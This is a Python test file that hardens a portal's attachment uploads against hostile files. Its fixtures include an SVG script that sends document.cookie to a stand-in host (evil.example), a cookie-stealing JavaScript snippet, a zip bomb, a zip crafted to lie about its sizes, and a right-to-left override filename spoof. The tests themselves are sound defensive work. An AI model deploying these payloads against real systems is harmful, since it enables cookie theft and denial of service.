"""Attachments tried as an attacker would: active content, names that lie, zip bombs,
bidirectional controls in names, a quota, and uploads nobody uses removed after a day."""

from __future__ import annotations

import inspect
import io
import struct
import tracemalloc
import zipfile
import zlib

import pytest

from tests.hardening.conftest import StartPortal
from tests.hardening.helpers import Api, portal_db, sign_in
from wire.filetypes import sniff

SVG_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('https://evil.example/'+document.cookie)</script></svg>"
)
XHTML = (
    b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>'
    b'<img src="x" onerror="alert(1)"/></body></html>'
)
JAVASCRIPT = b"function steal(a, b) {\n  return fetch(a, b);\n}\nsteal(document.cookie, 1);\n"
HTML_TABLE = b"<!DOCTYPE html>\n<p>a,b,c</p><script>alert(1)</script>\n"


@pytest.fixture
def elise(start_portal: StartPortal) -> Api:
    return sign_in(start_portal().base_url, "elise")


@pytest.mark.parametrize(
    "data",
    [SVG_SCRIPT, XHTML, JAVASCRIPT, HTML_TABLE],
    ids=["svg-with-script", "xhtml", "javascript", "html"],
)
def test_active_content_is_refused_whatever_its_name(elise: Api, data: bytes) -> None:
    r = elise.upload("invoice.pdf", data)
    assert r.status_code == 415, r.text
    assert r.json()["error"]["code"] == "unsupported_attachment"


def test_a_name_that_lies_about_the_type_gets_the_types_extension(elise: Api) -> None:
    r = elise.upload("invoice.pdf", b"<?xml version='1.0'?><Invoice><ID>1</ID></Invoice>")
    assert r.status_code == 201, r.text
    assert r.json()["content_type"] == "application/xml"
    assert r.json()["name"] == "invoice.pdf.xml"
    csv = elise.upload("totals.pdf", b"number;amount\nINV-1;10.00\nINV-2;20.00\n")
    assert csv.status_code == 201 and csv.json()["name"] == "totals.pdf.csv"
    honest = elise.upload("Faktura.XML", b"<Invoice/>")
    assert honest.json()["name"] == "Faktura.XML"


def test_a_csv_with_a_comma_in_prose_is_not_a_table(elise: Api) -> None:
    r = elise.upload("notes.csv", b"Dear buyer, please pay.\nThank you\n")
    assert r.status_code == 415


def _docx(document: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types><Override ContentType="application/vnd.openxmlformats-'
            'officedocument.wordprocessingml.document.main+xml" PartName="/word/document.xml"/>'
            "</Types>",
        )
        z.writestr("word/document.xml", document)
    return buf.getvalue()


def test_a_zip_bomb_is_refused(elise: Api) -> None:
    bomb = _docx(b"<w:document>" + b" " * (40 * 1024 * 1024) + b"</w:document>")
    assert len(bomb) < 200 * 1024  # 40 MB inflated from a small file: ratio in the hundreds
    r = elise.upload("contract.docx", bomb)
    assert r.status_code == 415, r.text
    fine = elise.upload("contract.docx", _docx(b"<w:document>Umowa</w:document>"))
    assert fine.status_code == 201, fine.text


TYPES_XML = (
    b'<?xml version="1.0"?><Types><Override ContentType="application/vnd.openxmlformats-'
    b'officedocument.wordprocessingml.document.main+xml" PartName="/word/document.xml"/></Types>'
)
LYING_INFLATED = 200 * 1024 * 1024


def _lying_docx(padding: int) -> bytes:
    """A .docx whose `[Content_Types].xml` declares its own few hundred bytes but inflates to
    `padding` more (spaces after the types), deflated in chunks so the test itself stays small."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts = [deflate.compress(TYPES_XML)]
    space = b" " * (1024 * 1024)
    for _ in range(padding // len(space)):
        parts.append(deflate.compress(space))
    parts.append(deflate.flush())
    members = [
        ("[Content_Types].xml", b"".join(parts), len(TYPES_XML), zlib.crc32(TYPES_XML)),
        (
            "word/document.xml",
            zlib.compress(b"<w:document/>")[2:-4],
            13,
            zlib.crc32(b"<w:document/>"),
        ),
    ]
    local, central = bytearray(), bytearray()
    for name, packed, declared, crc in members:
        header = struct.pack(
            "<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(packed), declared, len(name), 0
        )
        central += (
            struct.pack(
                "<4s6H3L5H2L",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                0x21,
                crc,
                len(packed),
                declared,
                len(name),
                0,
                0,
                0,
                0,
                0,
                len(local),
            )
            + name.encode()
        )
        local += header + name.encode() + packed
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 2, 2, len(central), len(local), 0)
    return bytes(local + central + end)


def test_a_zip_that_lies_about_its_sizes_is_refused_in_bounded_memory(elise: Api) -> None:
    crafted = _lying_docx(LYING_INFLATED)
    assert len(crafted) < 400 * 1024  # a few hundred KB that declare a few hundred bytes
    declared = zipfile.ZipFile(io.BytesIO(crafted)).infolist()
    assert sum(info.file_size for info in declared) < 1024
    tracemalloc.start()
    try:
        assert sniff(crafted) is None
        _, sniff_peak = tracemalloc.get_traced_memory()
        tracemalloc.reset_peak()
        r = elise.upload("contract.docx", crafted)  # the portal runs in this process's threads
        _, upload_peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert r.status_code == 415, r.text
    assert r.json()["error"]["code"] == "unsupported_attachment"
    # Inflating what it declares would take 200 MB; the check reads in small chunks.
    assert sniff_peak < 8 * 1024 * 1024, sniff_peak
    assert upload_peak < 32 * 1024 * 1024, upload_peak


def test_uploads_are_checked_off_the_event_loop() -> None:
    """A plain `def` route: FastAPI runs it in its threadpool, so inflating an archive or
    waiting for the database does not stop the portal answering everyone else."""
    from portal.http.api.attachments import upload_attachment

    assert not inspect.iscoroutinefunction(upload_attachment)


def test_bidirectional_and_zero_width_characters_leave_names(elise: Api) -> None:
    r = elise.upload("invoice\u202efdp.exe.pdf", b"%PDF-1.4 test")
    assert r.status_code == 201, r.text
    assert r.json()["name"] == "invoicefdp.exe.pdf"
    zw = elise.upload("fak\u200btura\u2066.pdf", b"%PDF-1.4 test")
    assert zw.json()["name"] == "faktura.pdf"
    download = elise.get(f"/v1/attachments/{r.json()['id']}")
    assert "\u202e" not in download.headers["Content-Disposition"]


def test_a_quota_per_user_with_a_clear_error(start_portal: StartPortal) -> None:
    server = start_portal(attachment_quota=3 * 1024 * 1024)
    elise = sign_in(server.base_url, "elise")
    chunk = b"%PDF-1.4 " + b"0" * (1024 * 1024)
    codes = [elise.upload(f"scan{i}.pdf", chunk).status_code for i in range(3)]
    assert codes == [201, 201, 413]
    refused = elise.upload("scan3.pdf", chunk)
    assert refused.json()["error"]["code"] == "attachment_quota_exceeded"
    assert "3 MB" in refused.json()["error"]["message"]
    # Another user's quota is their own.
    assert sign_in(server.base_url, "oskar").upload("a.pdf", chunk).status_code == 201


def test_uploads_no_request_uses_are_removed_after_a_day(start_portal: StartPortal) -> None:
    server = start_portal()
    elise = sign_in(server.base_url, "elise")
    stale = elise.upload("forgotten.pdf", b"%PDF-1.4 forgotten").json()["id"]
    used = elise.upload("evidence.pdf", b"%PDF-1.4 evidence").json()["id"]
    account = next(a["id"] for a in elise.accounts() if a["name"].endswith("- Test"))
    buyers = elise.get("/v1/directory", params={"q": "Technical Services"}).json()["items"]
    created = elise.post(
        "/v1/connection-requests",
        json={"account_id": account, "buyer_ids": [buyers[0]["id"]], "attachment_id": used},
        headers={"Idempotency-Key": "hardening-cleanup-1"},
    )
    assert created.status_code in (200, 201), created.text
    fresh = elise.upload("today.pdf", b"%PDF-1.4 today").json()["id"]
    with portal_db(server.db_url) as db:  # a day and a bit passes for the first two
        db.execute(
            "UPDATE attachments SET created_at = datetime('now', '-25 hours') WHERE id IN (?, ?)",
            (stale, used),
        )
    elise.upload("next.pdf", b"%PDF-1.4 next")  # any upload clears out the stale ones
    assert elise.get(f"/v1/attachments/{stale}").status_code == 404
    assert elise.get(f"/v1/attachments/{used}").status_code == 200
    assert elise.get(f"/v1/attachments/{fresh}").status_code == 200
